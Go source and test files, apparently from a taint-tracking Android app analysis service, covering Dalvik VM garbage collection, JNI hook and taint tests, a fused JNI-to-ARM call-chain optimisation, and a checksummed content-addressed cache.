	idxDvm := strings.Index(joined, "dvmCallMethodV")
	idxInterp := strings.Index(joined, "dvmInterpret")
	if !(idxCall < idxDvm && idxDvm < idxInterp) {
		t.Errorf("chain out of order: %s", joined)
	}
}

func TestInternalHooksFire(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	var seen []string
	vm.HookInternal("dvmCallJNIMethod", InternalHook{
		Before: func(ctx *CallCtx) {
			seen = append(seen, "entry:"+ctx.Method.Name)
		},
		After: func(ctx *CallCtx) {
			seen = append(seen, "exit:"+ctx.Method.Name)
		},
	})
	invoke(t, vm, "Lcom/test/App;", "add", 1, 2)
	if len(seen) != 2 || seen[0] != "entry:add" || seen[1] != "exit:add" {
		t.Errorf("hook sequence = %v", seen)
	}
}

func TestGCMovesObjectsAndIRTSurvives(t *testing.T) {
	vm := newVM(t)
	// Allocate garbage, then a survivor referenced only through the IRT.
	for i := 0; i < 10; i++ {
		vm.NewString("garbage")
	}
	surv := vm.NewString("survivor")
	ref := vm.AddGlobalRef(surv)
	oldAddr := surv.Addr

	moved := vm.RunGC()
	if moved == 0 {
		t.Fatal("GC moved nothing; expected compaction")
	}
	if surv.Addr == oldAddr {
		t.Error("survivor should have moved")
	}
	got := vm.DecodeRef(ref)
	if got != surv {
		t.Error("indirect ref broken after GC")
	}
	if _, ok := vm.ObjectAt(oldAddr); ok {
		t.Error("old address should no longer resolve")
	}
	if vm.HeapObjects() != 1 {
		t.Errorf("heap objects = %d, want 1 (garbage collected)", vm.HeapObjects())
	}
}

func TestGCUpdatesFrameSlots(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/G;")
	// gc() builtin trigger inside a method holding a live string register.
	gcCls := dex.NewClass("Ljava/lang/Runtime;").Build()
	addBuiltin(vm, gcCls, "gc", "V", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		vm.RunGC()
		return 0, 0, nil
	})
	vm.RegisterClass(gcCls)

	cb.Method("hold", "L", dex.AccStatic, 2).
		ConstString(0, "keepme").
		InvokeStatic("Ljava/lang/Runtime;", "gc", "V").
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	// Fill heap with garbage first so compaction actually moves things.
	for i := 0; i < 20; i++ {
		vm.NewString("junk")
	}
	ret, _ := invoke(t, vm, "Lcom/test/G;", "hold")
	o, ok := vm.objects[uint32(ret)]
	if !ok || o.Str != "keepme" {
		t.Fatalf("frame slot not updated across GC: %#x -> %+v", ret, o)
	}
}

func TestGCMoveCallback(t *testing.T) {
	vm := newVM(t)
	var moves int
	vm.OnGCMove = func(old, new uint32, o *Object) { moves++ }
	for i := 0; i < 5; i++ {
		vm.NewString("x")
	}
	keep := vm.NewString("keep")
	vm.AddGlobalRef(keep)
	vm.RunGC()
	if moves == 0 {
		t.Error("OnGCMove never fired")
	}
}

func TestVirtualDispatch(t *testing.T) {
	vm := newVM(t)
	base := dex.NewClass("Lcom/test/Base;")
	base.Method("answer", "I", 0, 1).
		Const(0, 1).
		Return(0).
		Done()
	vm.RegisterClass(base.Build())

	sub := dex.NewClass("Lcom/test/Sub;").Super("Lcom/test/Base;")
	sub.Method("answer", "I", 0, 1).
		Const(0, 2).
		Return(0).
		Done()
	vm.RegisterClass(sub.Build())

	drv := dex.NewClass("Lcom/test/Drv;")
	drv.Method("run", "I", dex.AccStatic, 2).
		NewInstance(0, "Lcom/test/Sub;").
		InvokeVirtual("Lcom/test/Base;", "answer", "I", 0).
		MoveResult(1).
		Return(1).
		Done()
	vm.RegisterClass(drv.Build())
	ret, _ := invoke(t, vm, "Lcom/test/Drv;", "run")
	if ret != 2 {
		t.Errorf("virtual dispatch = %d, want 2 (subclass override)", ret)
	}
}

func TestStringConcatTaint(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/SC;")
	cb.Method("mk", "L", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		ConstString(1, "imei=").
		InvokeVirtual("Ljava/lang/String;", "concat", "LL", 1, 0).
		MoveResult(0).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	ret, rt := invoke(t, vm, "Lcom/test/SC;", "mk")
	o := vm.objects[uint32(ret)]
	if o == nil || o.Str != "imei="+DeviceIMEI {
		t.Fatalf("concat result wrong: %+v", o)
	}
	if !rt.Has(taint.IMEI) {
		t.Errorf("concat taint = %v", rt)
	}
}
