package dvm

import (
	"testing"

	"repro/internal/dex"
	"repro/internal/taint"
)

// TestGCAutoTrigger: the allocation-count threshold fires collections
// automatically and the program's live data survives.
func TestGCAutoTrigger(t *testing.T) {
	vm := newVM(t)
	vm.GCThreshold = 32

	cb := dex.NewClass("Lcom/gc/Churn;")
	// Allocate many short-lived arrays in a loop while holding one live string
	// (const-strings are interned per site and would not churn the heap).
	cb.Method("churn", "LI", dex.AccStatic, 2).
		ConstString(0, "survivor").
		Label("loop").
		IfZ(2, dex.Le, "done").
		Const(1, 4).
		NewArray(1, 1, "I").
		BinLit(dex.Sub, 2, 2, 1).
		Goto("loop").
		Label("done").
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())

	ret, _, thrown, err := vm.InvokeByName("Lcom/gc/Churn;", "churn", []uint32{200}, nil)
	if err != nil || thrown != nil {
		t.Fatalf("churn: %v %v", err, thrown)
	}
	if vm.GCCount == 0 {
		t.Fatal("threshold GC never ran")
	}
	o, ok := vm.ObjectAt(uint32(ret))
	if !ok || o.Str != "survivor" {
		t.Fatalf("survivor lost across %d GCs: %#x -> %+v", vm.GCCount, ret, o)
	}
	// The dead short-lived strings must actually be collected.
	if vm.HeapObjects() > 64 {
		t.Errorf("heap holds %d objects; garbage not collected", vm.HeapObjects())
	}
}

// TestGCPreservesObjectGraph: instance fields and reference arrays are
// rewritten consistently during compaction.
func TestGCPreservesObjectGraph(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/gc/Node;")
	cb.InstanceField("next", false)
	cb.InstanceField("payload", false)
	vm.RegisterClass(cb.Build())
	cls, _ := vm.Class("Lcom/gc/Node;")

	// Garbage below the live graph guarantees compaction moves the graph.
	for i := 0; i < 30; i++ {
		vm.NewString("garbage-below")
	}

	// Build a 3-node list with string payloads, plus a reference array.
	var nodes []*Object
	for i := 0; i < 3; i++ {
		n := vm.NewInstance(cls)
		p := vm.NewString(string(rune('a' + i)))
		n.Fields[1] = p.Addr
		n.FieldTaints[1] = taint.SMS
		nodes = append(nodes, n)
	}
	nodes[0].Fields[0] = nodes[1].Addr
	nodes[1].Fields[0] = nodes[2].Addr
	arr := vm.NewArray('L', 3)
	for i, n := range nodes {
		arr.setElem(i, n.Addr)
	}
	root := vm.AddGlobalRef(nodes[0])
	arrRef := vm.AddGlobalRef(arr)

	for i := 0; i < 30; i++ {
		vm.NewString("garbage")
	}
	if vm.RunGC() == 0 {
		t.Fatal("nothing moved")
	}

	// Walk the list through rewritten fields.
	cur := vm.DecodeRef(root)
	for i := 0; i < 3; i++ {
		if cur == nil {
			t.Fatalf("list broken at node %d", i)
		}
		p, ok := vm.ObjectAt(cur.Fields[1])
		if !ok || p.Str != string(rune('a'+i)) {
			t.Fatalf("payload %d wrong: %+v", i, p)
		}
		if cur.FieldTaints[1] != taint.SMS {
			t.Errorf("field taint lost at node %d", i)
		}
		if next, ok := vm.ObjectAt(cur.Fields[0]); ok {
			cur = next
		} else {
			cur = nil
		}
	}
	// Reference-array elements were rewritten too.
	a := vm.DecodeRef(arrRef)
	for i := 0; i < 3; i++ {
		n, ok := vm.ObjectAt(a.elem(i))
		if !ok || n.Class != cls {
			t.Fatalf("array slot %d dangles", i)
		}
	}
}

// TestGCStaticRootsSurvive: objects reachable only through static fields.
func TestGCStaticRootsSurvive(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/gc/S;")
	cb.StaticField("keep", false)
	vm.RegisterClass(cb.Build())
	cls, _ := vm.Class("Lcom/gc/S;")

	o := vm.NewString("static-rooted")
	cls.StaticData[0] = o.Addr
	for i := 0; i < 10; i++ {
		vm.NewString("junk")
	}
	vm.RunGC()
	got, ok := vm.ObjectAt(cls.StaticData[0])
	if !ok || got.Str != "static-rooted" {
		t.Fatalf("static root lost: %+v", got)
	}
}

// TestGCNativeDirectPointerGoesStale demonstrates the §II-A hazard: a direct
// pointer squirreled away by native code dangles after compaction, which is
// exactly why JNI hands out indirect references.
func TestGCNativeDirectPointerGoesStale(t *testing.T) {
	vm := newVM(t)
	for i := 0; i < 8; i++ {
		vm.NewString("filler")
	}
	o := vm.NewString("moving-target")
	ref := vm.AddGlobalRef(o)
	stale := o.Addr // the "direct pointer" native code must not keep

	if vm.RunGC() == 0 {
		t.Fatal("no movement")
	}
	if _, ok := vm.ObjectAt(stale); ok {
		t.Error("stale direct pointer still resolves; compaction did not move")
	}
	if vm.DecodeRef(ref) != o {
		t.Error("indirect reference must keep resolving")
	}
}
