package dvm

// Cross-boundary trace fusion: hot, monomorphic Dalvik→JNI→ARM crossing
// chains are compiled into specialized host closures. The unfused bridge
// (jni.go) pays per call for work that is invariant per resolved method —
// shorty decoding, hook-list walking and closure setup, the full 16-register
// CPU snapshot/restore, the class-object scan for static receivers, and the
// ARM engine's entry-block lookup. A fused chain hoists all of it to bind
// time:
//
//   - the marshalling plan is the memoized shorty decode (jni.go);
//   - hook bodies are pre-bound via InternalHook.BindJNI (precomputed log
//     lines, reusable source policies, one-time entry-hook installation);
//   - the CPU save/restore shrinks to the chain's clobber set — the union of
//     the app images' static WriteRegs masks plus the AAPCS caller-saved set;
//   - the receiver class object is memoized instead of rescanned;
//   - the ARM entry block is threaded back as a hint, skipping the block-map
//     lookup on re-entry.
//
// Soundness rests on deopt, not on the specialization being right forever: a
// chain is valid only while the DVM translation epoch, the ARM code epoch,
// the method's native entry address, and the loaded-library count all match
// what bind time saw. Any mismatch — RegisterNatives re-registration, hook or
// pin changes, self-modifying code, snapshot restore, library loads, or an
// injected SiteFusedDeopt fault — sends the crossing back through the unfused
// bridge, whose behavior is the specification (the parity suite holds the two
// byte-identical).

import (
	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/taint"
)

// fuseThreshold is the crossing count at which an unseeded method is fused.
// Small on purpose: a chain build is cheap (no codegen, just binding), and
// the unfused bridge it replaces is the dominant per-crossing cost.
const fuseThreshold = 4

// fusedChain is one compiled Dalvik→JNI→ARM crossing chain.
type fusedChain struct {
	m    *dex.Method
	plan *marshalPlan

	// Validity tokens captured at bind time; fuseLookup revalidates on every
	// dispatch. nativeAddr pins monomorphism (RegisterNatives rebinding),
	// dvmEpoch covers hook/class/step-fn mutations and snapshot restores,
	// armEpoch covers ARM hook/pin changes and self-modifying code, nLibs
	// covers library loads extending the clobber universe.
	nativeAddr uint32
	dvmEpoch   uint64
	armEpoch   uint64
	nLibs      int

	// clobber is the register set the chain may touch: the union of every
	// loaded app image's WriteMask plus R0-R3, R12, SP, LR, and PC (AAPCS
	// caller-saved and call plumbing — host-modeled libc/kernel calls honor
	// the convention). Restoring only these replaces the full snapshot copy.
	clobber uint32

	// clsObj memoizes the receiver class object for static methods; it is
	// revalidated against the object table per call (GC keeps the pointer,
	// snapshot restore replaces the table and the epoch kills the chain).
	clsObj *Object

	// Pre-bound hook bodies, in registration order, and the precomputed
	// branch-event addresses of the internalCall they replace.
	before    []func(*CallCtx)
	after     []func(*CallCtx)
	entryAddr uint32
	fromAddr  uint32

	// entryHint is the chain's ARM entry block, threaded back through
	// RunUntilHint so re-entry skips the block-cache lookup.
	entryHint *arm.Block

	calls uint64
}

// fuseLookup returns the valid fused chain for m, building one when the
// method is hot (or statically seeded), or nil when the crossing must take
// the unfused bridge. An invalid chain counts a deopt and is dropped; the
// deopted crossing itself runs unfused, and the next one may rebuild.
func (vm *VM) fuseLookup(m *dex.Method) *fusedChain {
	if fault.Hit(SiteFusedDeopt, m.NativeAddr) != nil {
		// Injected epoch-check corruption: whatever the dispatch state, the
		// corrupted check fails — an existing chain deopts, a pending build is
		// suppressed — and the crossing takes the unfused bridge. The fault is
		// absorbed, never surfaced: byte-identical flow logs are the proof.
		vm.dropChain(m)
		return nil
	}
	if fc, ok := vm.fused[m]; ok {
		valid := fc.dvmEpoch == vm.transEpoch &&
			fc.armEpoch == vm.CPU.CodeEpoch &&
			fc.nativeAddr == m.NativeAddr &&
			fc.nLibs == len(vm.nativeLibs)
		if valid {
			return fc
		}
		vm.dropChain(m)
		return nil
	}
	if m.NativeAddr == 0 {
		return nil // unfused bridge owns the unbound-method fault
	}
	heat := uint32(0)
	if vm.fuseHeat != nil {
		heat = vm.fuseHeat[m]
	}
	heat++
	if heat >= fuseThreshold || vm.fuseSeeds[m] {
		return vm.buildChain(m)
	}
	if vm.fuseHeat == nil {
		vm.fuseHeat = make(map[*dex.Method]uint32)
	}
	vm.fuseHeat[m] = heat
	return nil
}

// dropChain invalidates m's fused chain (idempotent).
func (vm *VM) dropChain(m *dex.Method) {
	if _, ok := vm.fused[m]; ok {
		delete(vm.fused, m)
		vm.JavaFuseDeopts++
	}
}

// chainClobberMask bounds the registers any execution of app native code can
// write: the static WriteRegs union over every loaded image, plus the AAPCS
// caller-saved registers (R0-R3, R12) for host-modeled libc/kernel calls, and
// SP/LR/PC, which the bridge itself repoints.
func (vm *VM) chainClobberMask() uint32 {
	m := uint32(0xf) | 1<<12 | 1<<arm.SP | 1<<arm.LR | 1<<arm.PC
	for _, lib := range vm.nativeLibs {
		m |= lib.Prog.WriteMask
	}
	return m
}

// buildChain compiles the fused chain for m. Hook binding runs first — a
// BindJNI body may install ARM entry hooks, bumping the code epoch — and the
// validity tokens are captured last, so the chain is born valid.
func (vm *VM) buildChain(m *dex.Method) *fusedChain {
	fc := &fusedChain{
		m:         m,
		plan:      vm.planFor(m),
		entryAddr: vm.internalAddrs["dvmCallJNIMethod"],
		fromAddr:  vm.callsiteOf("dvmInterpret"),
	}
	for _, h := range vm.hooks["dvmCallJNIMethod"] {
		before, after := h.Before, h.After
		if h.BindJNI != nil {
			if b, a, ok := h.BindJNI(m); ok {
				before, after = b, a
			}
		}
		if before != nil {
			fc.before = append(fc.before, before)
		}
		if after != nil {
			fc.after = append(fc.after, after)
		}
	}
	fc.nativeAddr = m.NativeAddr
	fc.dvmEpoch = vm.transEpoch
	fc.armEpoch = vm.CPU.CodeEpoch
	fc.nLibs = len(vm.nativeLibs)
	fc.clobber = vm.chainClobberMask()
	if vm.fused == nil {
		vm.fused = make(map[*dex.Method]*fusedChain)
	}
	vm.fused[m] = fc
	vm.JavaFusedChains++
	delete(vm.fuseHeat, m)
	return fc
}

// callFused is the specialized bridge. Every observable effect — fault probe,
// local-frame push, AddLocalRef numbering, branch events, hook order, taint
// policy, return decoding — replays the unfused callJNIMethod exactly; only
// the invariant setup work is gone.
func (vm *VM) callFused(fc *fusedChain, th *Thread, m *dex.Method, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object, error) {
	if f := fault.Hit(SiteJNIBridge, m.NativeAddr); f != nil {
		f.Method = m.FullName()
		return 0, 0, nil, f
	}
	fc.calls++
	vm.JavaFusedCalls++
	plan := fc.plan
	vm.pushLocalFrame()
	defer vm.popLocalFrame()

	var clsObj *Object
	if plan.static {
		clsObj = fc.clsObj
		if clsObj == nil || vm.objects[clsObj.Addr] != clsObj {
			clsObj = vm.classObject(m.Class)
			fc.clsObj = clsObj
		}
	}

	sc := vm.getJNIScratch(plan.nWords)
	defer vm.putJNIScratch(sc)
	cpuArgs, argTaints, argObjs := vm.marshalJNIArgs(plan, m, clsObj, args, taints, sc)

	ctx := &CallCtx{
		VM:        vm,
		Name:      "dvmCallJNIMethod",
		Thread:    th,
		Method:    m,
		CPUArgs:   cpuArgs,
		ArgTaints: argTaints,
		ArgObjs:   argObjs,
	}

	// The internalCall sequence with the hook walk pre-bound.
	c := vm.CPU
	c.EmitBranch(fc.fromAddr, fc.entryAddr)
	for _, h := range fc.before {
		h(ctx)
	}
	r0, r1, sh0, sh1, runErr := vm.callNativeFused(fc, cpuArgs)
	ctx.Ret = uint64(r0) | uint64(r1)<<32
	ctx.RetTaint = sh0
	if plan.retWide {
		ctx.RetTaint |= sh1
	}
	for _, h := range fc.after {
		h(ctx)
	}
	c.EmitBranch(fc.entryAddr+4, fc.fromAddr+4)

	// Post-call revalidation: the native body may have re-registered itself,
	// registered hooks, or modified code. The next crossing rebuilds; After
	// hooks registered mid-crossing take effect from that crossing on.
	if vm.transEpoch != fc.dvmEpoch || c.CodeEpoch != fc.armEpoch ||
		m.NativeAddr != fc.nativeAddr || len(vm.nativeLibs) != fc.nLibs {
		vm.dropChain(m)
	}

	if runErr != nil {
		return 0, 0, nil, vm.errorf("native method %s: %w", m.FullName(), runErr)
	}

	var retTaint taint.Tag
	if ctx.RetOverride {
		retTaint = ctx.RetTaint
	} else {
		for _, t := range argTaints {
			retTaint |= t
		}
	}
	if !vm.TaintJava {
		retTaint = 0
	}
	vm.NoteTaint(retTaint)

	ret := vm.jniRetDecode(plan.retKind, r0, r1)

	var thrown *Object
	if th.Exception != nil {
		thrown = th.Exception
		th.Exception = nil
	}
	return ret, retTaint, thrown, nil
}

// callNativeFused is callNative with the full register restore replaced by
// the chain's clobber-set restore and the entry block served from the chain's
// hint. The full state is still captured (a cheap struct copy into a pooled
// buffer): when the code epoch moves during the run — self-modifying code or
// a hook installed mid-call — the WriteMask bound no longer covers what
// executed, so the bridge falls back to the full restore and the chain dies.
func (vm *VM) callNativeFused(fc *fusedChain, args []uint32) (r0, r1 uint32, sh0, sh1 taint.Tag, err error) {
	c := vm.CPU
	saved := vm.getSavedCPU()
	saved.capture(c)
	epoch := c.CodeEpoch
	pad := kernel.ReturnPadBase + uint32(vm.padDepth)*16
	vm.padDepth++
	defer func() { vm.padDepth-- }()

	sp := c.R[arm.SP]
	if len(args) > 4 {
		sp -= uint32(4 * (len(args) - 4))
		for i := 4; i < len(args); i++ {
			vm.Mem.Write32(sp+uint32(4*(i-4)), args[i])
		}
	}
	c.R[arm.SP] = sp
	for i := 0; i < 4; i++ {
		if i < len(args) {
			c.R[i] = args[i]
		}
		c.RegTaint[i] = 0
	}
	c.R[arm.LR] = pad
	c.SetThumbPC(fc.nativeAddr)
	budget := vm.NativeBudget
	if budget == 0 {
		budget = 64 << 20
	}
	hint, runErr := c.RunUntilHint(pad, budget, fc.entryHint)
	fc.entryHint = hint
	err = runErr
	r0, r1 = c.R[0], c.R[1]
	sh0, sh1 = c.RegTaint[0], c.RegTaint[1]
	if c.CodeEpoch != epoch {
		saved.restore(c)
		vm.dropChain(fc.m)
	} else {
		saved.restoreMasked(c, fc.clobber)
	}
	return r0, r1, sh0, sh1, err
}
