// Package cas implements the persistent content-addressed artifact store
// behind the analysis service: every derived artifact — dex validation
// results, static pre-analysis results, assembled native-library images, and
// final verdict records — is keyed by the content digest of its inputs, so a
// re-submitted identical app (or a new app sharing only a native library)
// reuses work instead of recomputing it.
//
// Keys are three-part: an artifact kind, the kind's schema fingerprint
// (hash of a schema description string plus the store format version), and
// the caller-supplied content digest. The schema fingerprint is part of the
// on-disk path, so a format change — bumping Version or editing a Kind's
// Schema string — makes old entries unreachable rather than deserialized as
// garbage.
//
// Every load is checksummed: a truncated or bit-flipped entry surfaces as a
// typed *fault.Fault diagnostic (layer "cas"), is evicted from the store, and
// the caller recomputes — corruption costs one recompute, never a wrong
// result. SiteLoad wires the load path into the deterministic fault-injection
// registry with the same absorbed semantics: an injected load fault behaves
// exactly like a corrupt entry, and verdicts stay byte-identical.
package cas

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sync"

	"repro/internal/fault"
)

// Version is the store format version. Bumping it invalidates every entry of
// every kind (the fingerprint of each kind changes, so old paths are simply
// never consulted again).
const Version = 1

// SiteLoad guards the entry-load path: an injected fault here is handled as
// a corrupt entry — evicted, counted, recomputed — and never changes a
// verdict (absorbed semantics).
const SiteLoad = "cas.load"

func init() {
	fault.RegisterSite(SiteLoad, "cas")
}

// Kind names one artifact family and describes its serialized schema. The
// Schema string is not parsed — it is hashed into the key, so editing it
// (say, when a field is added to the payload struct) cleanly invalidates
// every entry of the kind.
type Kind struct {
	Name   string
	Schema string
}

// fingerprint is the schema-qualified directory component of the kind.
func (k Kind) fingerprint() string {
	h := fnv.New64a()
	fmt.Fprintf(h, "cas-v%d|%s|%s", Version, k.Name, k.Schema)
	return fmt.Sprintf("%s-%016x", k.Name, h.Sum64())
}

// Stats counts store activity. Hits and Misses cover Get; Corrupt counts
// entries that failed the integrity check (injected or organic); every
// corrupt entry is also counted in Evictions.
type Stats struct {
	Hits      uint64 `json:"hits"`
	Misses    uint64 `json:"misses"`
	Puts      uint64 `json:"puts"`
	Corrupt   uint64 `json:"corrupt,omitempty"`
	Evictions uint64 `json:"evictions,omitempty"`
}

// Store is a goroutine-safe on-disk content-addressed store.
type Store struct {
	dir string

	mu    sync.Mutex
	stats Stats
}

// Open creates (if needed) and opens a store rooted at dir.
func Open(dir string) (*Store, error) {
	if dir == "" {
		return nil, fmt.Errorf("cas: empty store directory")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("cas: %w", err)
	}
	return &Store{dir: dir}, nil
}

// Dir reports the store root.
func (s *Store) Dir() string { return s.dir }

// Stats returns a snapshot of the activity counters.
func (s *Store) Stats() Stats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.stats
}

// path places an entry: <root>/<kind>-<schema fp>/<digest>.
func (s *Store) path(k Kind, digest string) string {
	return filepath.Join(s.dir, k.fingerprint(), digest)
}

// entry framing: an 8-byte magic, an 8-byte little-endian FNV-64a checksum of
// the payload, then the JSON payload.
var magic = [8]byte{'N', 'D', 'C', 'A', 'S', 'v', '0', '1'}

func checksum(payload []byte) uint64 {
	h := fnv.New64a()
	h.Write(payload)
	return h.Sum64()
}

// Put serializes v under (kind, digest). The write goes through a temp file
// and rename, so a concurrent reader sees either the old entry or the new
// one, never a torn write.
func (s *Store) Put(k Kind, digest string, v interface{}) error {
	payload, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("cas: marshal %s/%s: %w", k.Name, digest, err)
	}
	buf := make([]byte, 0, 16+len(payload))
	buf = append(buf, magic[:]...)
	var sum [8]byte
	binary.LittleEndian.PutUint64(sum[:], checksum(payload))
	buf = append(buf, sum[:]...)
	buf = append(buf, payload...)

	path := s.path(k, digest)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return fmt.Errorf("cas: %w", err)
	}
	tmp, err := os.CreateTemp(filepath.Dir(path), ".put-*")
	if err != nil {
		return fmt.Errorf("cas: %w", err)
	}
	if _, err := tmp.Write(buf); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("cas: %w", err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("cas: %w", err)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("cas: %w", err)
	}
	s.mu.Lock()
	s.stats.Puts++
	s.mu.Unlock()
	return nil
}

// Get loads the entry under (kind, digest) into out. It returns (true, nil)
// on a hit and (false, nil) on a clean miss. A corrupt entry — or an injected
// SiteLoad fault — returns (false, *fault.Fault) after evicting the entry:
// the caller treats it as a miss, recomputes, and may surface the fault as a
// diagnostic counter.
func (s *Store) Get(k Kind, digest string, out interface{}) (bool, error) {
	if f := fault.Hit(SiteLoad, 0); f != nil {
		s.evictCorrupt(k, digest)
		return false, f
	}
	data, err := os.ReadFile(s.path(k, digest))
	if err != nil {
		if os.IsNotExist(err) {
			s.mu.Lock()
			s.stats.Misses++
			s.mu.Unlock()
			return false, nil
		}
		s.evictCorrupt(k, digest)
		return false, s.corruptFault(k, digest, "unreadable entry", err)
	}
	if len(data) < 16 || [8]byte(data[:8]) != magic {
		s.evictCorrupt(k, digest)
		return false, s.corruptFault(k, digest, "truncated or foreign entry", nil)
	}
	payload := data[16:]
	if binary.LittleEndian.Uint64(data[8:16]) != checksum(payload) {
		s.evictCorrupt(k, digest)
		return false, s.corruptFault(k, digest, "checksum mismatch", nil)
	}
	if err := json.Unmarshal(payload, out); err != nil {
		s.evictCorrupt(k, digest)
		return false, s.corruptFault(k, digest, "undecodable payload", err)
	}
	s.mu.Lock()
	s.stats.Hits++
	s.mu.Unlock()
	return true, nil
}

// Evict removes an entry (no-op when absent).
func (s *Store) Evict(k Kind, digest string) {
	if os.Remove(s.path(k, digest)) == nil {
		s.mu.Lock()
		s.stats.Evictions++
		s.mu.Unlock()
	}
}

// evictCorrupt is Evict plus the corruption counter; an injected fault on a
// nonexistent entry still counts as corrupt (the probe observed a bad load).
func (s *Store) evictCorrupt(k Kind, digest string) {
	os.Remove(s.path(k, digest))
	s.mu.Lock()
	s.stats.Corrupt++
	s.stats.Evictions++
	s.mu.Unlock()
}

func (s *Store) corruptFault(k Kind, digest, detail string, cause error) *fault.Fault {
	return &fault.Fault{
		Kind:   fault.InternalError,
		Layer:  "cas",
		Detail: fmt.Sprintf("corrupt cache entry %s/%s: %s", k.Name, digest, detail),
		Cause:  cause,
	}
}

// DigestBytes fingerprints a byte string into the hex digest form store keys
// use. Convenience for callers keying artifacts off raw content.
func DigestBytes(parts ...[]byte) string {
	h := fnv.New64a()
	for _, p := range parts {
		var n [8]byte
		binary.LittleEndian.PutUint64(n[:], uint64(len(p)))
		h.Write(n[:])
		h.Write(p)
	}
	return fmt.Sprintf("%016x", h.Sum64())
}

// DigestStrings is DigestBytes over strings.
func DigestStrings(parts ...string) string {
	h := fnv.New64a()
	for _, p := range parts {
		var n [8]byte
		binary.LittleEndian.PutUint64(n[:], uint64(len(p)))
		h.Write(n[:])
		h.Write([]byte(p))
	}
	return fmt.Sprintf("%016x", h.Sum64())
}
