package cas_test

import (
	"os"
	"path/filepath"
	"testing"

	"repro/internal/cas"
	"repro/internal/fault"
)

type payload struct {
	Name  string
	Vals  []int
	Score float64
}

var testKind = cas.Kind{Name: "test", Schema: "v1 name,vals,score"}

func open(t *testing.T) *cas.Store {
	t.Helper()
	s, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestRoundTrip(t *testing.T) {
	s := open(t)
	in := payload{Name: "case1", Vals: []int{1, 2, 3}, Score: 4.5}
	if err := s.Put(testKind, "abc123", &in); err != nil {
		t.Fatal(err)
	}
	var out payload
	ok, err := s.Get(testKind, "abc123", &out)
	if err != nil || !ok {
		t.Fatalf("Get = %v, %v; want hit", ok, err)
	}
	if out.Name != in.Name || len(out.Vals) != 3 || out.Score != in.Score {
		t.Fatalf("round trip mangled: %+v", out)
	}
	if ok, err := s.Get(testKind, "missing", &out); ok || err != nil {
		t.Fatalf("miss = %v, %v; want clean miss", ok, err)
	}
	st := s.Stats()
	if st.Hits != 1 || st.Misses != 1 || st.Puts != 1 {
		t.Fatalf("stats %+v", st)
	}
}

// TestSchemaInvalidation is the version-bump test: an entry written under one
// schema string must be unreachable — a clean miss, not a decode error —
// under a different one, because the schema fingerprint is part of the key.
func TestSchemaInvalidation(t *testing.T) {
	s := open(t)
	if err := s.Put(testKind, "d1", &payload{Name: "x"}); err != nil {
		t.Fatal(err)
	}
	bumped := cas.Kind{Name: testKind.Name, Schema: "v2 name,vals,score,extra"}
	var out payload
	ok, err := s.Get(bumped, "d1", &out)
	if ok || err != nil {
		t.Fatalf("schema-bumped Get = %v, %v; want clean miss", ok, err)
	}
	// The original schema still resolves its entry.
	if ok, _ := s.Get(testKind, "d1", &out); !ok {
		t.Fatal("original schema lost its entry")
	}
}

// entryPath locates the single entry file under the store root.
func entryPath(t *testing.T, s *cas.Store) string {
	t.Helper()
	var found string
	err := filepath.Walk(s.Dir(), func(path string, info os.FileInfo, err error) error {
		if err == nil && !info.IsDir() {
			found = path
		}
		return err
	})
	if err != nil || found == "" {
		t.Fatalf("no entry file found: %v", err)
	}
	return found
}

func TestCorruptionEvictsAndFaults(t *testing.T) {
	for name, mangle := range map[string]func([]byte) []byte{
		"truncated": func(b []byte) []byte { return b[:len(b)/2] },
		"bitflip":   func(b []byte) []byte { b[len(b)-1] ^= 0x40; return b },
		"empty":     func(b []byte) []byte { return nil },
	} {
		t.Run(name, func(t *testing.T) {
			s := open(t)
			if err := s.Put(testKind, "d1", &payload{Name: "x", Vals: []int{9}}); err != nil {
				t.Fatal(err)
			}
			path := entryPath(t, s)
			data, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, mangle(data), 0o644); err != nil {
				t.Fatal(err)
			}
			var out payload
			ok, err := s.Get(testKind, "d1", &out)
			if ok {
				t.Fatal("corrupt entry served as a hit")
			}
			f, isFault := fault.Of(err)
			if !isFault || f.Layer != "cas" || f.Kind != fault.InternalError {
				t.Fatalf("corruption fault = %v; want typed cas fault", err)
			}
			if _, statErr := os.Stat(path); !os.IsNotExist(statErr) {
				t.Fatal("corrupt entry not evicted")
			}
			st := s.Stats()
			if st.Corrupt != 1 || st.Evictions != 1 {
				t.Fatalf("stats %+v; want 1 corrupt, 1 eviction", st)
			}
			// The caller recomputes and re-stores; the entry is healthy again.
			if err := s.Put(testKind, "d1", &payload{Name: "x", Vals: []int{9}}); err != nil {
				t.Fatal(err)
			}
			if ok, err := s.Get(testKind, "d1", &out); !ok || err != nil {
				t.Fatalf("recomputed entry Get = %v, %v", ok, err)
			}
		})
	}
}

// TestInjectedLoadFault arms the cas.load site: the next Get fails exactly
// like a corrupt entry (typed fault, eviction), and the one after succeeds —
// the absorbed-semantics contract the service-level parity tests rely on.
